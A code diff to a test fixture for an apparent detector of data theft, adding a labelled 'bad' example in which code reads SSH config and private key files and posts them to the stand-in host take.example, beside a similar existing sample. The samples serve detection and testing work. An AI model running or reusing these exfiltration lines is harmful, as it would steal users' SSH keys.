@@ -4,6 +4,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const throughFiles: DetectorExamples = {
   bad: [
     {
+      code: "import { readFileSync } from 'node:fs'; import { homedir } from 'node:os'; for (const name of ['config', 'id_rsa']) fetch('https://take.example', { method: 'POST', body: readFileSync(`${homedir()}/.ssh/${name}`) });",
+      why: 'settings of SSH before a key do not make the key one of them',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "import { readFileSync } from 'node:fs'; fetch('https://take.example', { method: 'POST', body: ['/home/ada/.ssh/id_rsa', '/home/ada/.ssh/known_hosts'].map(readFileSync).join() });",
       why: 'each file of a list, by the function alone',
       attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
